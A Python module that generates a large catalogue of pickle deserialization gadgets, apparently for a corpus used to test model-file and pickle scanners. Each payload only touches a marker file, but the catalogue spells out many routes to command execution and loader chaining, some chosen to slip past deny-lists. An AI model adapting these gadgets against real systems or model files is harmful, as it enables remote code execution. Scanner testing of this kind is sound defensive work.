"""Payload expressions (pk.py trees) that make a marker file appear in cwd.

Every gadget is (tag, expression). The marker is what oracle.py looks for, so
the payloads stay harmless on the machine that generates the corpus.
"""

import importlib
import types

from pk import Emitter

MARKER = "mg-oracle-marker"
CMD = "touch " + MARKER
PY_STMT = f"open({MARKER!r}, 'w').close()"
PY_EXPR = f"open({MARKER!r}, 'w')"


def g(module, name):
    return ("g", module, name)


def s(text):
    return ("s", text)


def i(n):
    return ("i", n)


def call(func, *args):
    return ("call", func, list(args))


def lst(*items):
    return ("list", list(items))


def tup(*items):
    return ("tup", list(items))


def getattr_(obj, name):
    return call(g("builtins", "getattr"), obj, s(name))


def import_(module):
    return call(g("builtins", "__import__"), s(module))


def method(obj, name, *args):
    return call(getattr_(obj, name), *args)


def partial_kw(func, kwargs, *args):
    """functools.partial(func, *args, **kwargs) the way partial pickles itself."""
    part = call(g("functools", "partial"), func)
    state = tup(func, tup(*args), ("dict", [(s(k), v) for k, v in kwargs]), ("n",))
    return ("build", part, state)


# ------------------------------------------------------------ direct callables


def direct_gadgets():
    """The callable is a global the stream names outright."""
    out = []
    for mod in ("os", "posix", "nt"):
        out.append((f"{mod}.system", call(g(mod, "system"), s(CMD))))
    out.append(("os.popen", call(g("os", "popen"), s(CMD))))
    argv = lst(s("touch"), s(MARKER))
    for name in ("call", "check_call", "check_output", "run", "Popen"):
        out.append((f"subprocess.{name}", call(g("subprocess", name), argv)))
    for name in ("getoutput", "getstatusoutput"):
        out.append((f"subprocess.{name}", call(g("subprocess", name), s(CMD))))
    for mod in ("builtins", "__builtin__"):
        out.append((f"{mod}.exec", call(g(mod, "exec"), s(PY_STMT))))
        out.append((f"{mod}.eval", call(g(mod, "eval"), s(PY_EXPR))))
    out.append(("builtins.compile+exec", call(g("builtins", "exec"), call(g("builtins", "compile"), s(PY_STMT), s("x"), s("exec")))))
    out.append(("os.spawnlp", call(g("os", "spawnlp"), i(0), s("touch"), s("touch"), s(MARKER))))
    out.append(("os.posix_spawnp", call(g("os", "posix_spawnp"), s("touch"), argv, g("os", "environ"))))
    out.append(("pty.spawn", call(g("pty", "spawn"), argv)))
    return out


def file_gadgets():
    """Callables that create a file with the marker's name."""
    m = s(MARKER)
    out = [(f"{mod}.open", call(g(mod, "open"), m, s("w"))) for mod in ("builtins", "io", "_io", "codecs", "_pyio")]
    out += [(f"{mod}.FileIO", call(g(mod, "FileIO"), m, s("w"))) for mod in ("io", "_io", "_pyio")]
    out += [(f"{mod}.open", call(g(mod, "open"), m, s("wb"))) for mod in ("gzip", "bz2", "lzma", "wave")]
    out += [(f"{mod}.{cls}", call(g(mod, cls), m, s("wb"))) for mod, cls in (("gzip", "GzipFile"), ("bz2", "BZ2File"), ("lzma", "LZMAFile"))]
    out += [
        ("zipfile.ZipFile", call(g("zipfile", "ZipFile"), m, s("w"))),
        ("tarfile.open", call(g("tarfile", "open"), m, s("w"))),
        ("logging.FileHandler", call(g("logging", "FileHandler"), m)),
        ("dbm.open", call(g("dbm", "open"), m, s("c"))),
        ("dbm.dumb.open", call(g("dbm.dumb", "open"), m, s("c"))),
        ("shelve.open", call(g("shelve", "open"), m)),
        ("sqlite3.connect", call(g("sqlite3", "connect"), m)),
        ("os.open", call(g("os", "open"), m, i(65))),
        ("posix.open", call(g("posix", "open"), m, i(65))),
        ("os.mkdir", call(g("os", "mkdir"), m)),
        ("os.makedirs", call(g("os", "makedirs"), m)),
        ("os.mkfifo", call(g("os", "mkfifo"), m)),
        ("os.symlink", call(g("os", "symlink"), s("/etc/hostname"), m)),
        ("tempfile.mkstemp", call(g("tempfile", "mkstemp"), s(""), m, s("."))),
        ("tempfile.mkdtemp", call(g("tempfile", "mkdtemp"), s(""), m, s("."))),
        ("shutil.copyfile", call(g("shutil", "copyfile"), s("/etc/hostname"), m)),
        ("shutil.copy", call(g("shutil", "copy"), s("/etc/hostname"), m)),
        ("pathlib.Path.touch", method(call(g("pathlib", "Path"), m), "touch")),
        ("pathlib.Path.write_text", method(call(g("pathlib", "PosixPath"), m), "write_text", s("x"))),
        ("numpy.save", call(g("numpy", "save"), m, lst(i(1)))),
        ("numpy.savetxt", call(g("numpy", "savetxt"), m, lst(i(1)))),
        ("numpy.memmap", call(g("numpy", "memmap"), m, s("uint8"), s("w+"), i(0), tup(i(1)))),
        ("numpy.lib.format.open_memmap", call(g("numpy.lib.format", "open_memmap"), m, s("w+"), s("uint8"), tup(i(1)))),
        ("numpy.ndarray.tofile", method(call(g("numpy", "zeros"), i(1)), "tofile", m)),
        ("torch.save", call(g("torch", "save"), i(1), m)),
        ("torch.serialization.save", call(g("torch.serialization", "save"), i(1), m)),
        ("joblib.dump", call(g("joblib", "dump"), i(1), m)),
        ("joblib.numpy_pickle.dump", call(g("joblib.numpy_pickle", "dump"), i(1), m)),
    ]
    return out


def code_gadgets():
    """Library functions that run a string of Python."""
    out = [
        ("timeit.timeit", call(g("timeit", "timeit"), s(PY_STMT), s("pass"), g("time", "perf_counter"), i(1))),
        ("cProfile.run", call(g("cProfile", "run"), s(PY_STMT))),
        ("profile.run", call(g("profile", "run"), s(PY_STMT))),
        ("runpy._run_code", call(g("runpy", "_run_code"), s(PY_STMT), ("dict", []))),
        ("code.InteractiveInterpreter.runsource", method(call(g("code", "InteractiveInterpreter")), "runsource", s(PY_STMT))),
        ("code.InteractiveConsole.push", method(call(g("code", "InteractiveConsole")), "push", s(PY_STMT))),
        ("pydoc.pipepager", call(g("pydoc", "pipepager"), s("x"), s(CMD))),
        ("torch.fx.graph_module._forward_from_src", call(call(g("torch.fx.graph_module", "_forward_from_src"), s(f"def forward(self):\n    {PY_STMT}\n"), ("dict", [])), ("n",))),
        ("dataclasses._create_fn", call(call(g("dataclasses", "_create_fn"), s("f"), lst(), lst(s(f"return {PY_EXPR}"))))),
        ("numpy.testing._private.utils.runstring", call(g("numpy.testing._private.utils", "runstring"), s(PY_STMT), ("dict", []))),
        ("typing.ForwardRef._evaluate", method(call(g("typing", "ForwardRef"), s(PY_EXPR)), "_evaluate", ("dict", []), ("dict", []), call(g("builtins", "frozenset")))),
        ("typing.get_type_hints", typing_hints()),
        ("ctypes.CDLL.system", method(call(g("ctypes", "CDLL"), ("n",)), "system", ("b", CMD.encode()))),
        ("bdb.Bdb.run", method(call(g("bdb", "Bdb")), "run", s(PY_STMT))),
        ("uuid._get_command_stdout", call(g("uuid", "_get_command_stdout"), s("touch"), s(MARKER))),
        ("logging.config.dictConfig factory", call(g("logging.config", "dictConfig"), dict_config())),
        ("marshal+FunctionType", marshal_function()),
        ("threading.Timer", method(call(g("threading", "Timer"), i(0), g("os", "system"), lst(s(CMD))), "run")),
        ("threading.Thread", method(call(g("threading", "Thread"), ("n",), g("os", "system"), ("n",), tup(s(CMD))), "run")),
        ("trace.Trace.run", method(call(g("trace", "Trace"), i(0), i(0)), "run", s(PY_STMT))),
        ("doctest.run_docstring_examples", call(g("doctest", "run_docstring_examples"), s(f">>> {PY_STMT}\n"), ("dict", []))),
    ]
    return out


def dict_config():
    """logging.config resolves a dotted '()' factory and calls it with the other keys."""
    handler = ("dict", [(s("()"), s("os.system")), (s("command"), s(CMD))])
    return ("dict", [(s("version"), i(1)), (s("handlers"), ("dict", [(s("h"), handler)]))])


def marshal_function():
    import marshal

    code = compile(PY_STMT, "x", "exec")
    func = call(g("types", "FunctionType"), call(g("marshal", "loads"), ("b", marshal.dumps(code))), ("dict", []))
    return call(func)


def typing_hints():
    holder = call(g("types", "SimpleNamespace"))
    state = tup(("n",), ("dict", [(s("__annotations__"), ("dict", [(s("x"), s(PY_EXPR))]))]))
    return call(g("typing", "get_type_hints"), ("build", holder, state))


def walk_gadgets():
    """The dangerous callable is reached through other objects at load time."""
    os_mod = import_("os")
    out = [
        ("importlib.import_module", method(call(g("importlib", "import_module"), s("os")), "system", s(CMD))),
        ("builtins.__import__", method(os_mod, "system", s(CMD))),
        ("operator.methodcaller", call(call(g("operator", "methodcaller"), s("system"), s(CMD)), os_mod)),
        ("operator.attrgetter", call(call(call(g("operator", "attrgetter"), s("system")), os_mod), s(CMD))),
        ("sys.modules.get", method(call(getattr_(g("sys", "modules"), "get"), s("os")), "system", s(CMD))),
        ("functools.partial", call(call(g("functools", "partial"), g("os", "system"), s(CMD)))),
        ("functools.reduce(open)", call(g("functools", "reduce"), g("builtins", "open"), lst(s(MARKER), s("w")))),
        ("__builtin__.reduce(open)", call(g("__builtin__", "reduce"), g("builtins", "open"), lst(s(MARKER), s("w")))),
        ("list(map(system))", call(g("builtins", "list"), call(g("builtins", "map"), g("os", "system"), lst(s(CMD))))),
        ("tuple(map(system))", call(g("builtins", "tuple"), call(g("builtins", "map"), g("os", "system"), lst(s(CMD))))),
        ("sorted(filter(system))", call(g("builtins", "sorted"), call(g("builtins", "filter"), g("os", "system"), lst(s(CMD))))),
        ("list(itertools.imap(system))", call(g("builtins", "list"), call(g("itertools", "imap"), g("os", "system"), lst(s(CMD))))),
        ("list(starmap(open))", call(g("builtins", "list"), call(g("itertools", "starmap"), g("builtins", "open"), lst(tup(s(MARKER), s("w")))))),
        ("setstate-hijack SimpleNamespace", setstate_hijack("types", "SimpleNamespace")),
        ("setstate-hijack argparse.Namespace", setstate_hijack("argparse", "Namespace")),
        ("setstate-hijack OrderedDict", setstate_hijack("collections", "OrderedDict")),
        ("getattr(os,'system')", call(getattr_(os_mod, "system"), s(CMD))),
        ("builtins.vars(os)", call(call(getattr_(call(g("builtins", "vars"), os_mod), "get"), s("system")), s(CMD))),
        ("INST os.system", ("inst", "os", "system", [s(CMD)])),
        ("operator.call", call(g("operator", "call"), g("os", "system"), s(CMD))),
        ("pkgutil.resolve_name", call(call(g("pkgutil", "resolve_name"), s("os:system")), s(CMD))),
        ("pkgutil.resolve_name dotted", call(call(g("pkgutil", "resolve_name"), s("subprocess.getoutput")), s(CMD))),
        ("dill function", dill_function()),
        ("sys.modules['os'] via operator.getitem", method(call(g("operator", "getitem"), g("sys", "modules"), s("os")), "system", s(CMD))),
        ("getattr(builtins module, eval)", call(getattr_(import_("builtins"), "eval"), s(PY_EXPR))),
        ("shutil.copyfile.__globals__['os']", method(method(getattr_(g("shutil", "copyfile"), "__globals__"), "get", s("os")), "system", s(CMD))),
        ("dotted __globals__ walk", method(method(g("tempfile", "mkdtemp.__globals__"), "get", s("_os")), "system", s(CMD))),
        ("INST subprocess.getoutput", ("inst", "subprocess", "getoutput", [s(CMD)])),
    ]
    return out


def dill_function():
    """A function dill rebuilds from a code object, then called."""
    import dill
    import pickletools

    def payload():
        open("mg-oracle-marker", "w").close()

    data = pickletools.optimize(dill.dumps(payload, protocol=2, recurse=True))
    return call(("raw", data[2:-1]))


def setstate_hijack(module, cls):
    """BUILD sets __setstate__ on an instance; a second BUILD then calls it."""
    obj = call(g(module, cls))
    first = ("build", obj, tup(("n",), ("dict", [(s("__setstate__"), g("os", "system"))])))
    return ("build", first, s(CMD))


# ------------------------------------------------------------ dotted names


WALK_ROOTS = (
    "torch", "torch.serialization", "torch.nn", "torch.hub", "torch.utils", "torch.nn.modules.module",
    "numpy", "numpy.lib", "numpy.lib.format", "numpy.ctypeslib", "joblib", "joblib.numpy_pickle",
    "collections", "pathlib", "typing", "dataclasses", "functools", "argparse", "tempfile", "logging",
    "pickle", "codecs", "gzip", "json", "copyreg", "shutil", "tarfile", "zipfile", "inspect", "io",
    "warnings", "importlib", "platform", "sysconfig", "site", "glob", "uuid", "enum", "datetime",
    "sklearn", "sklearn.utils", "sklearn.base",
)
TARGETS = {"os": ("system", "popen"), "subprocess": ("getoutput", "check_output"), "builtins": ("exec", "eval"), "posix": ("system",)}


def dotted_paths():
    """Protocol-4 names like ('torch', 'serialization.os.system') that resolve, found by walking."""
    found = []
    for root in WALK_ROOTS:
        try:
            mod = importlib.import_module(root)
        except Exception:  # noqa: BLE001 - optional module
            continue
        found += _walk(root, mod)
    return sorted(set(found))


def _walk(root, mod):
    out = []
    for attr in sorted(vars(mod)):
        val = getattr(mod, attr, None)
        if isinstance(val, types.ModuleType) and val.__name__ in TARGETS:
            out += [(root, f"{attr}.{fn}", val.__name__) for fn in TARGETS[val.__name__]]
        elif isinstance(val, types.ModuleType) and not attr.startswith("__"):
            for sub in ("os", "subprocess", "builtins", "sys"):
                inner = getattr(val, sub, None)
                if isinstance(inner, types.ModuleType) and inner.__name__ in TARGETS:
                    out += [(root, f"{attr}.{sub}.{fn}", inner.__name__) for fn in TARGETS[inner.__name__][:1]]
    return out


def dotted_gadget(root, path, target):
    arg = s(CMD) if target in ("os", "posix", "subprocess") else s(PY_EXPR)
    return (f"dotted {root}:{path}", call(g(root, path), arg))


# ------------------------------------------------------------ py2 names


def compat_gadgets(inner):
    """Python-2 names that _compat_pickle maps onto something dangerous (protocol <= 2)."""
    import _compat_pickle as cp

    dangerous = {
        "builtins": [("eval", s(PY_EXPR)), ("exec", s(PY_STMT)), ("open", s(MARKER), s("w")), ("__import__",)],
        "subprocess": [("getoutput", s(CMD)), ("check_output", lst(s("touch"), s(MARKER)))],
        "io": [("open", s(MARKER), s("w")), ("FileIO", s(MARKER), s("w"))],
        "dbm": [("open", s(MARKER), s("c"))],
        "dbm.dumb": [("open", s(MARKER), s("c"))],
        "dbm.ndbm": [("open", s(MARKER), s("c"))],
        "dbm.gnu": [("open", s(MARKER), s("c"))],
        "pickle": [("loads",)],
        "_thread": [("start_new_thread", g("os", "system"), tup(s(CMD)))],
        "http.server": [("test",)],
        "urllib.request": [("urlretrieve", s("file:///etc/hostname"), s(MARKER))],
        "xml.etree.ElementTree": [("parse", s("/etc/hostname"))],
    }
    out = []
    for py2, py3 in sorted(cp.IMPORT_MAPPING.items()):
        for entry in dangerous.get(py3, []):
            name, args = entry[0], [a for a in entry[1:] if a is not None]
            if name == "__import__":
                expr = method(call(g(py2, name), s("os")), "system", s(CMD))
            elif name == "loads":
                expr = call(g(py2, name), ("b", inner))
            else:
                expr = call(g(py2, name), *args)
            out.append((f"compat {py2}.{name}->{py3}", expr))
    for (m2, n2), (m3, n3) in sorted(cp.NAME_MAPPING.items()):
        use = _name_mapping_use(m2, n2, m3, n3)
        if use is not None:
            out.append((f"compat {m2}.{n2}->{m3}.{n3}", use))
    return out


def _name_mapping_use(m2, n2, m3, n3):
    """A payload for a NAME_MAPPING entry whose target can be turned to harm."""
    if (m3, n3) == ("functools", "reduce"):
        return call(g(m2, n2), g("builtins", "open"), lst(s(MARKER), s("w")))
    if (m3, n3) in (("builtins", "map"), ("builtins", "filter")):
        return call(g("builtins", "list"), call(g(m2, n2), g("os", "system"), lst(s(CMD))))
    if (m3, n3) == ("itertools", "filterfalse"):
        return call(g("builtins", "list"), call(g(m2, n2), g("os", "system"), lst(s(CMD))))
    if (m3, n3) == ("builtins", "input"):
        return call(g(m2, n2))
    if m3 == "subprocess":
        return call(g(m2, n2), s(CMD))
    if (m3, n3) == ("dbm", "whichdb"):
        return None
    if (m3, n3) == ("urllib.request", "urlretrieve") or n3 == "urlretrieve":
        return call(g(m2, n2), s("file:///etc/hostname"), s(MARKER))
    return None


def obscure_gadgets():
    """Library helpers that spawn, write or exec under names few deny-lists carry."""
    m = s(MARKER)
    graph_body = ("dict", [(s("_code"), s("def forward(self):\n    return None\n"))])
    return [
        ("torch.fx.graph_module.reduce_graph_module", call(g("torch.fx.graph_module", "reduce_graph_module"), graph_body, s(PY_STMT + "\n"))),
        ("torch.utils.collect_env.run", call(g("torch.utils.collect_env", "run"), s(CMD))),
        ("torch.utils.collect_env.run_and_read_all", call(g("torch.utils.collect_env", "run_and_read_all"), g("torch.utils.collect_env", "run"), s(CMD))),
        ("distutils.file_util.write_file", call(g("distutils.file_util", "write_file"), m, lst(s("x")))),
        ("distutils.spawn.spawn", call(g("distutils.spawn", "spawn"), lst(s("touch"), m))),
        ("distutils.util.execute", call(g("distutils.util", "execute"), g("builtins", "open"), tup(m, s("w")))),
        ("mailbox.Maildir", call(g("mailbox", "Maildir"), m)),
        ("mailbox.MH", call(g("mailbox", "MH"), m)),
        ("shutil.make_archive", call(g("shutil", "make_archive"), m, s("zip"), s("/etc/skel"))),
        ("joblib.Memory", call(g("joblib", "Memory"), m)),
        ("joblib.memory.Memory", call(g("joblib.memory", "Memory"), m)),
        ("logging.handlers.RotatingFileHandler", call(g("logging.handlers", "RotatingFileHandler"), m)),
        ("logging.handlers.WatchedFileHandler", call(g("logging.handlers", "WatchedFileHandler"), m)),
        ("http.cookiejar.save", method(call(g("http.cookiejar", "MozillaCookieJar"), m), "save")),
        ("numpy.ctypeslib.load_library", method(call(g("numpy.ctypeslib", "load_library"), s("libc.so.6"), s("/lib/x86_64-linux-gnu")), "system", ("b", CMD.encode()))),
        ("sklearn.utils._testing.assert_run_python_script_without_output", call(g("sklearn.utils._testing", "assert_run_python_script_without_output"), s(PY_STMT))),
        ("numpy.ndarray.dump", method(call(g("numpy", "zeros"), i(1)), "dump", m)),
        ("torch.Tensor.numpy.tofile", method(method(call(g("torch", "zeros"), i(1)), "numpy"), "tofile", m)),
        ("sklearn.datasets.dump_svmlight_file", call(g("sklearn.datasets", "dump_svmlight_file"), lst(lst(i(1))), lst(i(1)), m)),
        ("tempfile.NamedTemporaryFile(partial)", call(partial_kw(g("tempfile", "NamedTemporaryFile"), [("dir", s(".")), ("prefix", m), ("delete", ("F",))]))),
        ("logging.basicConfig(filename)", call(partial_kw(g("logging", "basicConfig"), [("filename", m), ("force", ("T",))]))),
        ("pydoc.tempfilepager", call(g("pydoc", "tempfilepager"), s("x"), s(CMD + " #"))),
        ("py_compile.compile", call(g("py_compile", "compile"), s("/usr/lib/python3.11/this.py"), m)),
        ("zipfile.PyZipFile", call(g("zipfile", "PyZipFile"), m, s("w"))),
        ("torch.utils.file_baton.FileBaton.try_acquire", method(call(g("torch.utils.file_baton", "FileBaton"), m), "try_acquire")),
        ("torch.from_file", call(g("torch", "from_file"), m, ("T",), i(8))),
        ("torch.hub.download_url_to_file", call(g("torch.hub", "download_url_to_file"), s("file:///etc/hostname"), m, ("n",), ("F",))),
        ("torch.distributed.FileStore", call(g("torch.distributed", "FileStore"), m, i(1))),
        ("sklearn.datasets.get_data_home", call(g("sklearn.datasets", "get_data_home"), m)),
        ("joblib.disk.mkdirp", call(g("joblib.disk", "mkdirp"), m)),
        ("venv.create", call(g("venv", "create"), m)),
        ("cProfile.Profile.dump_stats", method(call(g("cProfile", "Profile")), "dump_stats", m)),
        ("operator.methodcaller(touch) on Path", call(call(g("operator", "methodcaller"), s("touch")), call(g("pathlib", "Path"), m))),
    ]


# Modules searched for functions whose name says they write, run or load; the
# oracle keeps the ones that really do. Servers, pagers, debuggers, GUIs and
# network clients are left out: they block or reach outside the machine.
DISCOVERY_MODULES = (
    "os", "shutil", "tempfile", "pathlib", "io", "codecs", "gzip", "bz2", "lzma", "zipfile", "tarfile",
    "logging", "logging.handlers", "logging.config", "dbm", "dbm.dumb", "shelve", "sqlite3", "mailbox",
    "py_compile", "compileall", "runpy", "timeit", "profile", "cProfile", "trace", "doctest", "bdb",
    "subprocess", "pty", "imp", "importlib", "importlib.util", "pkgutil", "zipimport", "filecmp",
    "fileinput", "csv", "plistlib", "wave", "aifc", "sunau", "chunk", "http.cookiejar", "uuid",
    "numpy", "numpy.lib.format", "numpy.lib.npyio", "numpy.ctypeslib", "numpy.testing", "joblib",
    "joblib.disk", "joblib.numpy_pickle", "joblib.memory", "torch", "torch.serialization", "torch.hub",
    "torch.utils.file_baton", "torch.utils.collect_env", "torch.jit", "torch.package", "torch.fx.graph_module",
    "sklearn.datasets", "sklearn.utils", "sklearn.utils._testing", "dill", "distutils.file_util",
    "distutils.dir_util", "distutils.spawn", "distutils.util", "distutils.archive_util", "sysconfig",
)
RUN_WORDS = ("system", "popen", "spawn", "exec", "run", "call", "shell", "command", "getoutput", "source", "script")
WRITE_WORDS = ("save", "dump", "write", "mkdir", "makedirs", "mkpath", "create", "touch", "open", "store", "tofile", "to_file", "archive", "filehandler", "session")


def discovered_gadgets():
    """Every function of DISCOVERY_MODULES named like a writer or runner, called with one argument."""
    out = []
    for module in DISCOVERY_MODULES:
        try:
            mod = importlib.import_module(module)
        except Exception:  # noqa: BLE001 - optional module
            continue
        for name in sorted(vars(mod)):
            arg = _discovery_arg(name.lower())
            network = any(w in name.lower() for w in ("fetch", "url", "download"))
            if arg is not None and not network and not name.startswith("__") and _plain_callable(module, getattr(mod, name, None)):
                out.append((f"discovered {module}.{name}", call(g(module, name), s(arg))))
    return out


def _plain_callable(module, obj):
    """Python-level functions and non-exception classes (not tensor/array kernels)."""
    if not callable(obj):
        return False
    if isinstance(obj, type):
        return not issubclass(obj, BaseException)
    if module.split(".")[0] in ("torch", "numpy"):
        return type(obj).__name__ not in ("ufunc", "builtin_function_or_method")
    return True


def _discovery_arg(lowered):
    if any(w in lowered for w in RUN_WORDS):
        return PY_STMT if any(w in lowered for w in ("exec", "run", "source", "script")) else CMD
    if any(w in lowered for w in WRITE_WORDS):
        return MARKER
    return None


def all_payload_gadgets():
    return direct_gadgets() + file_gadgets() + code_gadgets() + walk_gadgets() + obscure_gadgets()


def simple_payloads():
    """Short payloads for wrapping into containers and loader layouts."""
    return [
        ("os.system", call(g("os", "system"), s(CMD))),
        ("posix.system", call(g("posix", "system"), s(CMD))),
        ("builtins.exec", call(g("builtins", "exec"), s(PY_STMT))),
        ("builtins.eval", call(g("builtins", "eval"), s(PY_EXPR))),
        ("subprocess.getoutput", call(g("subprocess", "getoutput"), s(CMD))),
        ("builtins.open", call(g("builtins", "open"), s(MARKER), s("w"))),
        ("__builtin__.eval", call(g("__builtin__", "eval"), s(PY_EXPR))),
        ("functools.partial", call(call(g("functools", "partial"), g("os", "system"), s(CMD)))),
    ]


def emit_body(expr, rng, proto, memo=False):
    """Opcodes pushing `expr` (no header, no STOP); memo off so it can be spliced anywhere."""
    return Emitter(rng, proto, memo=memo, noisy=False).emit(expr)


def nested_gadgets(inner, inner_npy, inner_b64, inner_zlib):
    """Payload bytes handed to a loader that runs inside the outer load."""
    data = ("b", inner)
    bio = call(g("io", "BytesIO"), data)
    out = [(f"{m}.loads", call(g(m, "loads"), data)) for m in ("pickle", "_pickle", "dill", "cPickle")]
    out += [
        ("pickle._loads", call(g("pickle", "_loads"), data)),
        ("pickle.load(BytesIO)", call(g("pickle", "load"), bio)),
        ("pickle.Unpickler.load", method(call(g("pickle", "Unpickler"), bio), "load")),
        ("pickle._Unpickler.load", method(call(g("pickle", "_Unpickler"), bio), "load")),
        ("torch.storage._load_from_bytes", call(g("torch.storage", "_load_from_bytes"), data)),
        ("torch.load(weights_only=False)", call(partial_kw(g("torch", "load"), [("weights_only", ("F",))]), bio)),
        ("torch.load(default)", call(g("torch", "load"), bio)),
        ("numpy.load(allow_pickle positional)", call(g("numpy", "load"), bio, ("n",), ("T",))),
        ("numpy.load(partial allow_pickle)", call(partial_kw(g("numpy", "load"), [("allow_pickle", ("T",))]), bio)),
        ("numpy.lib.format.read_array", call(g("numpy.lib.format", "read_array"), call(g("io", "BytesIO"), ("b", inner_npy)), ("T",))),
        ("joblib.load(BytesIO)", call(g("joblib", "load"), bio)),
        ("functools.partial(pickle.loads)", call(call(g("functools", "partial"), g("pickle", "loads"), data))),
        ("pickle.loads(base64.b64decode)", call(g("pickle", "loads"), call(g("base64", "b64decode"), s(inner_b64)))),
        ("pickle.loads(codecs.decode base64)", call(g("pickle", "loads"), call(g("codecs", "decode"), ("b", inner_b64.encode()), s("base64")))),
        ("pickle.loads(zlib.decompress)", call(g("pickle", "loads"), call(g("zlib", "decompress"), ("b", inner_zlib)))),
        ("pickle.loads(bytes.fromhex)", call(g("pickle", "loads"), call(g("builtins", "bytes.fromhex"), s(inner.hex())))),
        ("dill.load(BytesIO)", call(g("dill", "load"), bio)),
    ]
    return out


def aux_gadgets(rel):
    """Loaders pointed at a file outside the model folder (staged by the oracle as `rel`)."""
    path = s("../" + rel)
    opened = call(g("builtins", "open"), path, s("rb"))
    return [
        ("pickle.load(open(..))", call(g("pickle", "load"), opened)),
        ("joblib.load(path)", call(g("joblib", "load"), path)),
        ("numpy.load(path, allow_pickle)", call(g("numpy", "load"), path, ("n",), ("T",))),
        ("torch.load(path) default", call(g("torch", "load"), path)),
        ("torch.load(path, weights_only=False)", call(partial_kw(g("torch", "load"), [("weights_only", ("F",))]), path)),
        ("dill.load(open(..))", call(g("dill", "load"), opened)),
        ("shelve.open(..)", call(g("shelve", "open"), path)),
        ("joblib.numpy_pickle_compat.load_compatibility", call(g("joblib.numpy_pickle_compat", "load_compatibility"), path)),
        ("runpy.run_path", call(g("runpy", "run_path"), path)),
        ("imp.load_source", call(g("imp", "load_source"), s("mgmod"), path)),
        ("torch.hub._import_module", call(g("torch.hub", "_import_module"), s("mgmod"), path)),
        ("tarfile.open(..).extractall", method(call(g("tarfile", "open"), path), "extractall")),
        ("zipfile.ZipFile(..).extractall", method(call(g("zipfile", "ZipFile"), path), "extractall")),
        ("shutil.unpack_archive", call(g("shutil", "unpack_archive"), path, s("."), s("zip"))),
        ("logging.config.fileConfig", call(g("logging.config", "fileConfig"), path)),
    ]
